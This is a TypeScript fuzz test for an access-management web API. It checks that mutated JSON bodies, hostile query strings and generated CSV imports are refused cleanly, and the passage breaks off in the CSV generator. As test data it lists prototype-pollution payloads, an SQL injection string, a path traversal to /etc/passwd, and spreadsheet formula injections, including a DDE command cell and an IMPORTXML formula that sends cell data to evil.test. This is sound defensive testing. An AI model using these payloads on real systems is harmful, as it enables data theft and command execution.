import fc from "fast-check";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SHEET_COLUMNS } from "../core/record/access-sheet.ts";
import { API_BODY_LIMIT } from "./app.ts";
import { MAX_IMPORT_BYTES } from "./import-export.ts";
import { createTestInstance, readJson, type TestInstance } from "./testing.ts";

/**
 * Hostile input, generated: every JSON route in the OpenAPI document gets bodies that start valid
 * (derived from the route's own request schema) and then have one hostile mutation applied. Every
 * answer must be a 4xx problem (or a 2xx when the mutation happened to leave the body valid), never
 * a 5xx; a 4xx must have written nothing; Object.prototype must stay clean. The CSV importer gets
 * the same treatment with generated sheets. Seeded: every run sends the same requests.
 */

const CASES_PER_KIND = 3;
const SEED = 20261125;

// ---------------------------------------------------------------------------------------------
// A tiny JSON Schema model: the subset the OpenAPI document uses.

interface Schema {
  type?: string | string[];
  enum?: unknown[];
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  maxItems?: number;
  minItems?: number;
  items?: Schema;
  properties?: Record<string, Schema>;
  required?: string[];
  additionalProperties?: boolean | Schema;
  oneOf?: Schema[];
  anyOf?: Schema[];
  $ref?: string;
}

/** Named schemas of the OpenAPI document, for `$ref`s in request bodies. */
let COMPONENTS: Record<string, Schema> = {};
const deref = (s: Schema): Schema => (s.$ref ? deref(COMPONENTS[s.$ref.split("/").pop()!] ?? {}) : s);

type JsonType = "string" | "number" | "integer" | "boolean" | "array" | "object" | "null";

/** A generated body as a tree that remembers the schema of every node, so mutations can aim. */
type Node =
  | { kind: "object"; schema: Schema; entries: [string, Node][] }
  | { kind: "array"; schema: Schema; items: Node[] }
  | { kind: "leaf"; schema: Schema; value: unknown }
  | { kind: "raw"; schema: Schema; text: string };

const ANY: Schema = {};

function types(schema: Schema): Set<JsonType> {
  const out = new Set<JsonType>();
  for (const s of [...(schema.oneOf ?? []), ...(schema.anyOf ?? [])]) for (const t of types(s)) out.add(t);
  if (schema.type) for (const t of [schema.type].flat()) out.add(t as JsonType);
  if (schema.enum) for (const v of schema.enum) out.add(v === null ? "null" : (typeof v as JsonType));
  if (out.has("integer")) out.add("number");
  return out;
}

const acceptsAny = (schema: Schema) => types(schema).size === 0;

function serialize(node: Node): string {
  switch (node.kind) {
    case "raw":
      return node.text;
    case "leaf":
      return JSON.stringify(node.value);
    case "array":
      return `[${node.items.map(serialize).join(",")}]`;
    case "object":
      return `{${node.entries.map(([k, v]) => `${JSON.stringify(k)}:${serialize(v)}`).join(",")}}`;
  }
}

function clone(node: Node): Node {
  switch (node.kind) {
    case "object":
      return { ...node, entries: node.entries.map(([k, v]) => [k, clone(v)] as [string, Node]) };
    case "array":
      return { ...node, items: node.items.map(clone) };
    default:
      return { ...node };
  }
}

/** Every node with a way to replace it (the root's replace swaps the whole body). */
function locations(root: { body: Node }): { node: Node; replace: (n: Node) => void }[] {
  const out: { node: Node; replace: (n: Node) => void }[] = [];
  const walk = (node: Node, replace: (n: Node) => void) => {
    out.push({ node, replace });
    if (node.kind === "object")
      for (const entry of node.entries)
        walk(entry[1], (n) => {
          entry[1] = n;
        });
    if (node.kind === "array")
      for (const [i, item] of node.items.entries())
        walk(item, (n) => {
          node.items[i] = n;
        });
  };
  walk(root.body, (n) => {
    root.body = n;
  });
  return out;
}

// ---------------------------------------------------------------------------------------------
// JSON Schema → fc.Arbitrary<Node>

const TEXT_UNITS = [
  ..."abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 .-_'",
  "é",
  "ß",
  "漢",
  "🙂",
];
const text = (min: number, max: number) =>
  fc
    .string({ unit: fc.constantFrom(...TEXT_UNITS), minLength: min, maxLength: max })
    .filter((s) => s.trim() === s && s.length >= min);

const isoDate = fc
  .date({ min: new Date("2000-01-01T00:00:00Z"), max: new Date("2099-12-31T00:00:00Z"), noInvalidDate: true })
  .map((d) => d.toISOString().slice(0, 10));

function arbitraryFor(named: Schema, ids: Record<string, string>, key = ""): fc.Arbitrary<Node> {
  const schema = deref(named);
  const leaf = (a: fc.Arbitrary<unknown>) => a.map((value): Node => ({ kind: "leaf", schema, value }));
  const branches = schema.oneOf ?? schema.anyOf;
  if (branches) return fc.oneof(...branches.map((b) => arbitraryFor(b, ids, key)));
  if (schema.enum) return leaf(fc.constantFrom(...schema.enum));
  const typeList = [schema.type ?? []].flat();
  if (typeList.length > 1) {
    const nonNull = typeList.filter((t) => t !== "null");
    const arbs = nonNull.map((t) => arbitraryFor({ ...schema, type: t }, ids, key));
    if (typeList.includes("null")) arbs.push(leaf(fc.constant(null)));
    return fc.oneof(...arbs).map((n) => ({ ...n, schema }));
  }
  switch (typeList[0]) {
    case "object": {
      const props = Object.entries(schema.properties ?? {});
      const required = new Set(schema.required ?? []);
      return fc
        .tuple(
          ...props.map(([k, s]) =>
            required.has(k)
              ? arbitraryFor(s, ids, k)
              : fc.option(arbitraryFor(s, ids, k), { nil: undefined, freq: 3 }),
          ),
        )
        .map(
          (values): Node => ({
            kind: "object",
            schema,
            entries: props.flatMap(([k], i) => (values[i] ? [[k, values[i]] as [string, Node]] : [])),
          }),
        );
    }
    case "array":
      return fc
        .array(arbitraryFor(schema.items ?? ANY, ids, key), {
          minLength: schema.minItems ?? 0,
          maxLength: Math.min(schema.maxItems ?? 3, 3),
        })
        .map((items): Node => ({ kind: "array", schema, items }));
    case "string": {
      const id = fixtureIdFor(key, ids);
      if (id) return leaf(fc.constant(id));
      const known = CATALOG_VALUES[key];
      if (known) return leaf(fc.constantFrom(...known));
      if (schema.format === "email")
        return leaf(
          fc
            .tuple(fc.stringMatching(/^[a-z][a-z0-9]{0,11}$/), fc.constantFrom("example.test", "acme.test"))
            .map(([u, d]) => `${u}@${d}`),
        );
      if (schema.format === "date") return leaf(isoDate);
      if (schema.format === "uuid") return leaf(fc.uuid());
      if (schema.pattern)
        return leaf(
          fc
            .stringMatching(new RegExp(schema.pattern))
            .filter((s) => s.length >= (schema.minLength ?? 0) && s.length <= (schema.maxLength ?? 1e9)),
        );
      return leaf(text(schema.minLength ?? 0, Math.min(schema.maxLength ?? 40, 40)));
    }
    case "integer":
      return leaf(
        fc.integer({ min: schema.minimum ?? -1_000_000, max: Math.min(schema.maximum ?? 1_000_000, 20) }),
      );
    case "number":
      return leaf(fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true }));
    case "boolean":
      return leaf(fc.boolean());
    case "null":
      return leaf(fc.constant(null));
    default:
      return leaf(fc.constant(null));
  }
}

/** Free-text fields the record checks against the platform catalog (as of the TikTok fixture account). */
const CATALOG_VALUES: Record<string, string[]> = {
  platform: ["tiktok", "meta", "ourtool"],
  type: ["ad_account", "pixel"],
  role: ["Admin"],
};

/** Fields that name another object get a real fixture ID, so the valid body is valid in the record too. */
function fixtureIdFor(key: string, ids: Record<string, string>): string | undefined {
  if (
    /^(ownerPersonId|backupOwnerPersonId|personId|knownByPersonIds|successorPersonId|toPersonId)$/.test(key)
  )
    return ids.personId;
  if (key === "assetIds") return ids.assetId;
  if (key === "grantId") return ids.grantId;
  if (key === "organizationId") return ids.organizationId;
  if (key === "accountId") return ids.accountId;
  if (key === "assetId") return ids.assetId;
  if (key === "sharedLoginId") return ids.sharedLoginId;
  return undefined;
}

// ---------------------------------------------------------------------------------------------
// Mutations

const MUTATIONS = [
  "wrongType",
  "hugeString",
  "deepNesting",
  "prototypeKey",
  "invalidUtf8",
  "unknownField",
  "missingRequired",
  "nullEverywhere",
  "oddNumber",
] as const;
type MutationKind = (typeof MUTATIONS)[number];

interface Mutated {
  body: Uint8Array<ArrayBuffer>;
  /** A short description for failure messages (huge payloads abbreviated). */
  label: string;
  /** True when no schema could accept the result: a 2xx is then a validation bug. */
  mustFail: boolean;
}

const WRONG_VALUES: { type: JsonType; text: string }[] = [
  { type: "number", text: "42" },
  { type: "string", text: '"text"' },
  { type: "boolean", text: "true" },
  { type: "array", text: "[]" },
  { type: "object", text: "{}" },
  { type: "null", text: "null" },
];

const ODD_NUMBERS: { text: string; type: JsonType | "invalid" | "infinite" }[] = [
  { text: "1e309", type: "infinite" },
  { text: "-1e309", type: "infinite" },
  { text: "-0", type: "number" },
  { text: "1e-400", type: "number" },
  { text: "9007199254740993", type: "number" },
  { text: "0.1e1", type: "number" },
  { text: '"NaN"', type: "string" },
  { text: '"Infinity"', type: "string" },
  { text: '"-0"', type: "string" },
  { text: "NaN", type: "invalid" },
  { text: "Infinity", type: "invalid" },
  { text: "0x10", type: "invalid" },
  { text: "+1", type: "invalid" },
  { text: "01", type: "invalid" },
];

const INVALID_UTF8 = [
  [0xff],
  [0xc3, 0x28],
  [0x80],
  [0xed, 0xa0, 0x80],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xc0, 0xaf],
];

const HUGE = 1_000_000;
const DEEP = 10_000;

const encode = (s: string) => new TextEncoder().encode(s);
const abbreviate = (s: string) =>
  s.length > 300 ? `${s.slice(0, 150)}…(${s.length} chars)…${s.slice(-60)}` : s;

/** A mutation: its kind plus the random choices it needs; applied to a copy of the valid body. */
const mutationArb = (kind: MutationKind) =>
  fc.record({ kind: fc.constant(kind), pick: fc.nat(), pick2: fc.nat(), key: fc.string({ maxLength: 12 }) });
type Mutation = { kind: MutationKind; pick: number; pick2: number; key: string };

function mutate(valid: Node, m: Mutation): Mutated {
  const root = { body: clone(valid) };
  const locs = locations(root);
  const at = locs[m.pick % locs.length]!;
  const objects = locs.filter((l) => l.node.kind === "object");
  const done = (mustFail: boolean, what: string): Mutated => {
    const s = serialize(root.body);
    return { body: encode(s), mustFail, label: `${m.kind} (${what}): ${abbreviate(s)}` };
  };
  switch (m.kind) {
    case "wrongType": {
      const allowed = types(at.node.schema);
      const wrong = WRONG_VALUES.filter((w) => !allowed.has(w.type));
      if (acceptsAny(at.node.schema) || wrong.length === 0) return done(false, "nothing to break");
      const w = wrong[m.pick2 % wrong.length]!;
      at.replace({ kind: "raw", schema: at.node.schema, text: w.text });
      return done(true, `${w.type} where ${[...allowed].join("|")} belongs`);
    }
    case "hugeString": {
      // About 1 MB once encoded, under the body limit so validation (not the limit) has to refuse it.
      const ch = "xé\u0000 <"[m.pick2 % 5]!;
      const value = ch.repeat(ch === "é" ? HUGE / 2 : ch === "\u0000" ? HUGE / 6 : HUGE);
      at.replace({ kind: "leaf", schema: at.node.schema, value });
      const s = at.node.schema;
      const fits =
        types(s).has("string") && !s.enum && (s.maxLength ?? Number.POSITIVE_INFINITY) >= value.length;
      return done(!fits && !acceptsAny(s), `${HUGE} bytes of ${JSON.stringify(ch)}`);
    }
    case "deepNesting": {
      const deep =
        m.pick2 % 2
          ? `${"[".repeat(DEEP)}1${"]".repeat(DEEP)}`
          : `${'{"a":'.repeat(DEEP)}1${"}".repeat(DEEP)}`;
      at.replace({ kind: "raw", schema: at.node.schema, text: deep });
      return done(!acceptsAny(at.node.schema), `${DEEP} levels`);
    }
    case "prototypeKey": {
      const target = objects[m.pick2 % objects.length];
      const payloads: [string, string][] = [
        ["__proto__", '{"polluted":"yes"}'],
        ["constructor", '{"prototype":{"polluted":"yes"}}'],
        ["prototype", '{"polluted":"yes"}'],
        ["__proto__", '{"__proto__":{"polluted":"yes"},"polluted":"yes"}'],
      ];
      const [key, payload] = payloads[m.pick % payloads.length]!;
      if (target?.node.kind !== "object") return done(false, "no object");
      target.node.entries.splice(m.pick % (target.node.entries.length + 1), 0, [
        key,
        { kind: "raw", schema: ANY, text: payload },
      ]);
      return done(target.node.schema.additionalProperties === false, key);
    }
    case "invalidUtf8": {
      const bytes = encode(serialize(root.body));
      const bad = INVALID_UTF8[m.pick2 % INVALID_UTF8.length]!;
      // Inside a string value (right after an opening quote) or anywhere at all.
      const quotes = [...bytes.keys()].filter((i) => bytes[i] === 0x22);
      const pos =
        m.pick % 2 && quotes.length ? quotes[m.pick % quotes.length]! + 1 : m.pick % (bytes.length + 1);
      const body = new Uint8Array([...bytes.subarray(0, pos), ...bad, ...bytes.subarray(pos)]);
      return {
        body,
        mustFail: false,
        label: `invalidUtf8 (${bad.map((b) => b.toString(16)).join(" ")} at byte ${pos}): ${abbreviate(new TextDecoder().decode(body))}`,
      };
    }
    case "unknownField": {
      const target = objects[m.pick2 % objects.length];
      if (target?.node.kind !== "object") return done(false, "no object");
      const known = new Set([...Object.keys(target.node.schema.properties ?? {}), "__proto__"]);
      const key = known.has(m.key) ? `${m.key}_extra` : m.key;
      target.node.entries.push([key, { kind: "leaf", schema: ANY, value: "surprise" }]);
      return done(target.node.schema.additionalProperties === false, JSON.stringify(key));
    }
    case "missingRequired": {
      const target = objects[m.pick2 % objects.length];
      if (target?.node.kind !== "object" || target.node.entries.length === 0)
        return done(false, "nothing to remove");
      const required = new Set(target.node.schema.required ?? []);
      const candidates = target.node.entries.filter(([k]) => required.has(k));
      const pool = candidates.length ? candidates : target.node.entries;
      const [key] = pool[m.pick % pool.length]!;
      target.node.entries = target.node.entries.filter(([k]) => k !== key);
      // A oneOf branch (grant subject, finding decision) is then no branch at all or another one:
      // only a removed required field of a plain object is certain to fail.
      const plain = !(target.node.schema.oneOf || target.node.schema.anyOf);
      return done(required.has(key) && plain && !hasUnionAbove(valid, target.node), JSON.stringify(key));
    }
    case "nullEverywhere": {
      if (m.pick2 % 3 === 0) {
        root.body = { kind: "leaf", schema: root.body.schema, value: null };
        return done(!types(valid.schema).has("null"), "the whole body");
      }
      let mustFail = false;
      const nullify = (node: Node) => {
        if (node.kind === "object")
          for (const entry of node.entries) {
            if (!types(entry[1].schema).has("null") && !acceptsAny(entry[1].schema)) mustFail = true;
            if (m.pick2 % 3 === 1 || entry[1].kind !== "object")
              entry[1] = { ...entry[1], kind: "leaf", value: null } as Node;
            else nullify(entry[1]);
          }
      };
      nullify(root.body);
      return done(mustFail, "every field");
    }
    case "oddNumber": {
      const odd = ODD_NUMBERS[m.pick2 % ODD_NUMBERS.length]!;
      at.replace({ kind: "raw", schema: at.node.schema, text: odd.text });
      const allowed = types(at.node.schema);
      const mustFail =
        odd.type === "invalid" ||
        odd.type === "infinite" ||
        (!acceptsAny(at.node.schema) && !allowed.has(odd.type as JsonType)) ||
        // Enums, formats and patterns take none of these.
        (odd.type === "string" &&
          Boolean(at.node.schema.enum || at.node.schema.format || at.node.schema.pattern));
      return done(mustFail, odd.text);
    }
  }
}

/** Whether `target` sits inside a oneOf/anyOf value of `root` (its schema is then one branch). */
function hasUnionAbove(root: Node, target: Node): boolean {
  const walk = (node: Node, inUnion: boolean): boolean | undefined => {
    const here = inUnion || Boolean(node.schema.oneOf || node.schema.anyOf);
    if (node === target) return inUnion;
    const children =
      node.kind === "object" ? node.entries.map(([, v]) => v) : node.kind === "array" ? node.items : [];
    for (const c of children) {
      const r = walk(c, here);
      if (r !== undefined) return r;
    }
    return undefined;
  };
  return walk(root, false) ?? false;
}

// ---------------------------------------------------------------------------------------------
// The instance, its fixtures and the checks every case makes

let t: TestInstance;
let cookie: string;
let ids: Record<string, string>;
let protoKeys: string[];
let cases = 0;
let accepted = 0;
const serverErrors: string[] = [];
const routesRun = new Set<string>();

async function fixtures(): Promise<void> {
  cookie = await t.signUp("alice@a.test");
  const ws = await readJson<{ id: string }>(
    await t.call("POST", "/api/v1/workspaces", { cookie, body: { name: "Alpha" } }),
  );
  // A second member, so role changes never lock the fixture owner out.
  const inv = await readJson<{ id: string }>(
    await t.call("POST", `/api/v1/workspaces/${ws.id}/invitations`, {
      cookie,
      body: { email: "guest@a.test", role: "editor" },
    }),
  );
  const guest = await t.signUp("guest@a.test");
  const accepted = await t.call("POST", `/api/v1/invitations/${inv.id}/accept`, { cookie: guest });
  if (accepted.status !== 200) throw new Error(`accept: ${accepted.status} ${await accepted.text()}`);
  const pending = await readJson<{ id: string }>(
    await t.call("POST", `/api/v1/workspaces/${ws.id}/invitations`, {
      cookie,
      body: { email: "later@a.test", role: "viewer" },
    }),
  );
  const members = await readJson<{ members: { id: string; email?: string; user?: { email: string } }[] }>(
    await t.call("GET", `/api/v1/workspaces/${ws.id}/members`, { cookie }),
  );
  const guestMember = members.members.find((m) => JSON.stringify(m).includes("guest@a.test"));
  const post = async (path: string, body: unknown) => {
    const res = await t.call("POST", `/api/v1/workspaces/${ws.id}/${path}`, { cookie, body });
    if (res.status !== 201) throw new Error(`${path}: ${res.status} ${await res.text()}`);
    return (await readJson<{ id: string }>(res)).id;
  };
  const organizationId = await post("organizations", { name: "Alpha Org", kind: "client" });
  const personId = await post("people", { name: "Pat", emails: ["pat@alpha.test"], organizationId });
  const accountId = await post("accounts", {
    platform: "tiktok",
    name: "Alpha BC",
    organizationId,
    ownerPersonId: personId,
  });
  const assetId = await post("assets", { accountId, type: "ad_account", name: "Alpha ads" });
  const sharedLoginId = await post("shared-logins", { label: "Alpha login", knownByPersonIds: [personId] });
  const grantId = await post("grants", {
    subject: { type: "person", personId },
    target: { accountId, assetId },
    role: "operator",
  });
  const findings = await readJson<{ findings: { key: string }[] }>(
    await t.call("GET", `/api/v1/workspaces/${ws.id}/findings`, { cookie }),
  );
  const requestId = await post("requests", {
    direction: "outgoing",
    accountId,
    role: "Standard",
    subject: { type: "person", personId },
    contactName: "Casey",
  });
  const plan = await readJson<{ id: string; tasks: { id: string }[] }>(
    await t.call("POST", `/api/v1/workspaces/${ws.id}/plans`, {
      cookie,
      body: { subject: { kind: "person-leaves", personId } },
    }),
  );
  const reviewed = await post("accounts", { platform: "tiktok", name: "Reviewed BC", organizationId });
  await post("grants", {
    subject: { type: "person", personId },
    target: { accountId: reviewed },
    role: "Admin",
  });
  const review = await readJson<{ id: string; items: { id: string }[] }>(
    // On an account of its own, so starting a review of the fixture account stays possible.
    await t.call("POST", `/api/v1/workspaces/${ws.id}/reviews`, {
      cookie,
      body: { accountId: reviewed },
    }),
  );
  ids = {
    reviewId: review.id,
    itemId: review.items[0]!.id,
    requestId,
    planId: plan.id,
    taskId: plan.tasks[0]!.id,
    platform: "tiktok",
    slug: "add-member",
    findingKey: findings.findings[0]!.key,
    workspaceId: ws.id,
    memberId: guestMember!.id,
    invitationId: pending.id,
    organizationId,
    personId,
    accountId,
    assetId,
    sharedLoginId,
    grantId,
  };
}

/** Every row of every table, except those that any request touches (sessions, rate limits). */
async function snapshot(): Promise<string> {
  const tables = await sql<{ name: string }>`select name from sqlite_master where type = 'table'`.execute(
    t.db,
  );
  const out: Record<string, unknown[]> = {};
  for (const { name } of tables.rows) {
    if (/^(session|rateLimit|sqlite_.*|kysely_.*)$/.test(name)) continue;
    // biome-ignore lint/suspicious/noExplicitAny: generic dump of any table
    out[name] = await (t.db as any).selectFrom(name).selectAll().execute();
  }
  return JSON.stringify(out);
}

function send(
  method: string,
  path: string,
  body: BodyInit,
  headers: Record<string, string> = {},
): Promise<Response> {
  const env = { incoming: { socket: { remoteAddress: "127.0.0.1" } } };
  return Promise.resolve(
    t.app.request(
      `http://delvia.test${path}`,
      {
        method,
        body,
        headers: { origin: "http://delvia.test", cookie, "content-type": "application/json", ...headers },
        duplex: "half",
      } as RequestInit,
      env,
    ),
  );
}

/** The checks every hostile request gets. Returns the status. */
async function expectHandled(
  res: Response,
  where: string,
  before: string,
  mustFail: boolean,
): Promise<number> {
  cases++;
  const bodyText = await res.text();
  if (process.env.FZDBG)
    console.log(`FZ ${res.status} ${mustFail} ${where.slice(0, 200)} ${bodyText.slice(0, 200)}`);
  if (res.status >= 500) serverErrors.push(`${where} → ${res.status} ${bodyText.slice(0, 300)}`);
  expect(res.status, `${where} → ${bodyText.slice(0, 300)}`).toBeLessThan(500);
  if (res.status >= 400) {
    expect(res.headers.get("content-type"), where).toContain("application/problem+json");
    const problem = JSON.parse(bodyText) as { detail?: unknown; status?: unknown };
    expect(
      typeof problem.detail === "string" && problem.detail.trim().length > 0,
      `${where}: empty detail`,
    ).toBe(true);
    expect(problem.status, where).toBe(res.status);
    expect(await snapshot(), `${where}: a ${res.status} wrote to the database`).toBe(before);
  } else {
    accepted++;
    expect(res.status, where).toBeGreaterThanOrEqual(200);
    expect(res.status, where).toBeLessThan(300);
    expect(mustFail, `${where} → ${res.status}: an invalid body was accepted`).toBe(false);
  }
  expect(({} as Record<string, unknown>).polluted, `${where}: Object.prototype polluted`).toBeUndefined();
  expect(Object.getOwnPropertyNames(Object.prototype), `${where}: Object.prototype changed`).toEqual(
    protoKeys,
  );
  expect(Object.getOwnPropertyNames(Array.prototype).includes("polluted"), where).toBe(false);
  return res.status;
}

interface JsonRoute {
  method: string;
  path: string;
  schema: Schema;
}

function jsonRoutes(): JsonRoute[] {
  const doc = t.app.getOpenAPI31Document({ openapi: "3.1.0", info: { title: "t", version: "0" } });
  COMPONENTS = (doc.components?.schemas ?? {}) as Record<string, Schema>;
  const out: JsonRoute[] = [];
  for (const [path, item] of Object.entries(doc.paths ?? {})) {
    for (const [method, op] of Object.entries(item as Record<string, { requestBody?: unknown }>)) {
      if (!["post", "put", "patch"].includes(method) || typeof op !== "object" || !op) continue;
      const schema = (op.requestBody as { content?: Record<string, { schema?: Schema }> } | undefined)
        ?.content?.["application/json"]?.schema;
      if (schema) out.push({ method: method.toUpperCase(), path, schema });
    }
  }
  return out;
}

function fill(path: string): string {
  return path.replace(/\{(\w+)\}/g, (_, name: string) => {
    const id = ids[name];
    if (!id)
      throw new Error(
        `fuzz test has no fixture for path parameter {${name}} in ${path}: add one to fixtures()`,
      );
    return id;
  });
}

function seedOf(s: string): number {
  let h = SEED;
  for (const ch of s) h = (Math.imul(h, 31) + ch.charCodeAt(0)) | 0;
  return h;
}

beforeAll(async () => {
  t = await createTestInstance("sqlite");
  await fixtures();
  protoKeys = Object.getOwnPropertyNames(Object.prototype);
});
afterAll(async () => {
  console.log(
    `fuzz: ${routesRun.size} routes, ${cases} cases (${accepted} accepted as valid, ${cases - accepted} refused), ${serverErrors.length} server errors${
      serverErrors.length ? `\n  ${serverErrors.join("\n  ")}` : ""
    }`,
  );
  await t.dispose();
});

// The route list comes from the OpenAPI document, which needs an instance: build it lazily in a
// test of its own, and let each route's test pick from it by index.
const EXPECTED_JSON_ROUTES = 16;

describe("every JSON route survives valid-then-mutated bodies", () => {
  it("finds the JSON routes in the OpenAPI document", () => {
    const routes = jsonRoutes().map((r) => `${r.method} ${r.path}`);
    expect(routes).toContain("POST /api/v1/workspaces");
    expect(routes).toContain("PUT /api/v1/workspaces/{workspaceId}/grants/{grantId}");
    // New JSON routes are picked up on their own; this only notices if the walk finds fewer.
    expect(routes.length).toBeGreaterThanOrEqual(EXPECTED_JSON_ROUTES);
  });

  it("the generated bodies, unmutated, are accepted: the mutations start from valid input", async () => {
    const refused: string[] = [];
    for (const route of jsonRoutes()) {
      const where = `${route.method} ${route.path}`;
      const samples = fc.sample(arbitraryFor(route.schema, ids), { seed: seedOf(where), numRuns: 3 });
      const outcomes: string[] = [];
      for (const valid of samples) {
        const res = await send(route.method, fill(route.path), serialize(valid));
        outcomes.push(`${serialize(valid)} → ${res.status} ${res.status < 300 ? "" : await res.text()}`);
      }
      if (!outcomes.some((o) => / → 2\d\d /.test(o)))
        refused.push(`${where}\n    ${outcomes.join("\n    ")}`);
    }
    expect(refused, "no generated body was accepted").toEqual([]);
  });

  it("each route: 4xx problem or valid 2xx, never 5xx, no write on 4xx, no prototype pollution", async () => {
    for (const route of jsonRoutes()) {
      const where = `${route.method} ${route.path}`;
      routesRun.add(where);
      const url = fill(route.path);
      const bodyArb = arbitraryFor(route.schema, ids);
      for (const kind of MUTATIONS) {
        await fc.assert(
          fc.asyncProperty(bodyArb, mutationArb(kind), async (valid, m) => {
            const mutated = mutate(valid, m);
            const before = await snapshot();
            const res = await send(route.method, url, mutated.body);
            await expectHandled(res, `${where} ${mutated.label}`, before, mutated.mustFail);
          }),
          { seed: seedOf(`${where} ${kind}`), numRuns: CASES_PER_KIND, endOnFailure: true },
        );
      }
    }
  }, 120_000);

  it("a body over the limit, with Content-Length or chunked, is a 413 problem on every JSON route", async () => {
    const before = await snapshot();
    for (const route of jsonRoutes()) {
      const where = `${route.method} ${route.path}`;
      const url = fill(route.path);
      const big = `{"name":"${"x".repeat(API_BODY_LIMIT)}"}`;
      const withLength = await send(route.method, url, big, { "content-length": String(big.length) });
      expect(withLength.status, where).toBe(413);
      await expectHandled(withLength, `${where} (Content-Length ${big.length})`, before, true);

      const chunk = encode("x".repeat(64 * 1024));
      let sent = 0;
      const stream = new ReadableStream<Uint8Array>({
        pull(controller) {
          if (sent === 0) controller.enqueue(encode('{"name":"'));
          if (sent > API_BODY_LIMIT + chunk.length) {
            controller.enqueue(encode('"}'));
            controller.close();
            return;
          }
          controller.enqueue(chunk);
          sent += chunk.length;
        },
      });
      const chunked = await send(route.method, url, stream);
      expect(chunked.status, `${where} chunked`).toBe(413);
      await expectHandled(chunked, `${where} (chunked)`, before, true);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Query parameters

/** Hostile values for any query parameter: limits, cursors, IDs, enums and dates alike. */
const HOSTILE_QUERY = [
  "",
  " ",
  "-1",
  "0",
  "1.5",
  "1e309",
  "NaN",
  "9".repeat(400),
  "\u0000",
  "🙂漢é",
  "__proto__",
  "constructor",
  "[object Object]",
  "x".repeat(5000),
  "' or 1=1 --",
  "../../etc/passwd",
  Buffer.from("[[[[[").toString("base64url"),
  Buffer.from("[1,2,3,4]").toString("base64url"),
  Buffer.from('["Admin",null,"active",{"__proto__":{"polluted":1}}]').toString("base64url"),
  Buffer.from(`["Admin",null,"sideways","${"0".repeat(300)}"]`).toString("base64url"),
];

function queryRoutes(): { path: string; params: string[] }[] {
  const doc = t.app.getOpenAPI31Document({ openapi: "3.1.0", info: { title: "t", version: "0" } });
  const out: { path: string; params: string[] }[] = [];
  for (const [path, item] of Object.entries(doc.paths ?? {})) {
    const get = (item as { get?: { parameters?: { in: string; name: string }[] } }).get;
    const params = (get?.parameters ?? []).filter((p) => p.in === "query").map((p) => p.name);
    if (get && params.length && path.startsWith("/api/v1/workspaces/")) out.push({ path, params });
  }
  return out;
}

describe("every GET route with query parameters survives hostile values", () => {
  it("each parameter, alone or repeated: a 4xx problem or a 2xx, never a 5xx, nothing written on a 4xx", async () => {
    const routes = queryRoutes();
    expect(routes.map((r) => r.path)).toContain(
      "/api/v1/workspaces/{workspaceId}/accounts/{accountId}/grants",
    );
    for (const route of routes) {
      routesRun.add(`GET ${route.path}`);
      const url = fill(route.path);
      for (const param of route.params)
        for (const value of HOSTILE_QUERY) {
          for (const query of [
            `${param}=${encodeURIComponent(value)}`,
            `${param}=${encodeURIComponent(value)}&${param}=1`,
          ]) {
            const before = await snapshot();
            const res = await t.call("GET", `${url}?${query}`, { cookie });
            await expectHandled(res, `GET ${route.path}?${query.slice(0, 80)}`, before, false);
          }
        }
    }
  }, 120_000);
});

// ---------------------------------------------------------------------------------------------
// The CSV importer

const FORMULAS = [
  "=1+2",
  '=HYPERLINK("http://evil.test","click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1",
  "\r=1",
  '=IMPORTXML(CONCAT("http://evil.test/?", A1), "//a")',
];
const quoteCell = (s: string, quoted: boolean) =>
  quoted || /[",\n\r]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s;

/** Values that make a valid row, per column; a generated sheet starts from these. */
const VALID_CELLS: Record<string, string[]> = {
  platform: ["tiktok", "TikTok"],
  account: ["Client BC", "Agency BC"],
  account_org: ["Client Co", "Agency"],
  subject: ["Carla"],
  role: ["admin", "Admin"],
  email: ["carla@client.test"],
  subject_org: ["Client Co", ""],
  status: ["active", "pending"],
  granted_on: ["2026-01-02", ""],
  expires_on: ["2027-01-01", ""],
  notes: ["hello", "", "🙂 漢 é"],
};
const REQUIRED_COLUMNS = ["platform", "account", "account_org", "subject", "role", "email"];
const OPTIONAL_COLUMNS = ["subject_org", "status", "granted_on", "expires_on", "notes"];
const JUNK_CELLS = [
  '"open quote',
  'a"b',
  '""',
  "line\nbreak",
  "comma,inside",
  "🙂漢é",
  "   ",
  "\u0000",
  "tomorrow",
  "boss",
];

/** `arb` about one time in `every`, else `none`: most sheets keep most of their valid shape. */
const sometimes = <T, N>(arb: fc.Arbitrary<T>, none: N, every = 4) =>
  fc.oneof({ weight: every - 1, arbitrary: fc.constant(none) }, { weight: 1, arbitrary: arb });

const csvArb = fc
  .record({
    optional: fc.subarray(OPTIONAL_COLUMNS),
    // Random columns: names from the sheet's own list (maybe twice) or anything at all.
    extraColumns: sometimes(
      fc.array(fc.oneof(fc.constantFrom(...SHEET_COLUMNS), fc.string({ maxLength: 12 })), {
        minLength: 1,
        maxLength: 3,
      }),
      [] as string[],
    ),
    dropRequired: sometimes(fc.constantFrom(...REQUIRED_COLUMNS), undefined, 6),
    rows: fc.array(fc.array(fc.nat(), { minLength: 14, maxLength: 14 }), { minLength: 0, maxLength: 4 }),
    // Hostile cells: [row, column, value]: formulas mostly, junk sometimes.
    cells: fc.array(
      fc.tuple(
        fc.nat(),
        fc.nat(),
        fc.oneof(
          { weight: 3, arbitrary: fc.constantFrom(...FORMULAS) },
          fc.constantFrom(...JUNK_CELLS),
          fc.string({ maxLength: 20 }),
        ),
      ),
      { maxLength: 2 },
    ),
    extraCells: sometimes(fc.constant(1), 0, 5),
    quoteAll: fc.boolean(),
    newline: fc.constantFrom("\n", "\r\n", "\r"),
    bom: fc.constantFrom("", "\uFEFF", "\uFEFF\uFEFF"),
    openQuote: sometimes(fc.nat(), undefined, 5),
    invalidUtf8: sometimes(fc.tuple(fc.constantFrom(...INVALID_UTF8), fc.nat()), undefined),
    dryRun: fc.boolean(),
  })
  .map((r) => {
    const columns = [
      ...REQUIRED_COLUMNS.filter((c) => c !== r.dropRequired),
      ...r.optional,
      ...r.extraColumns,
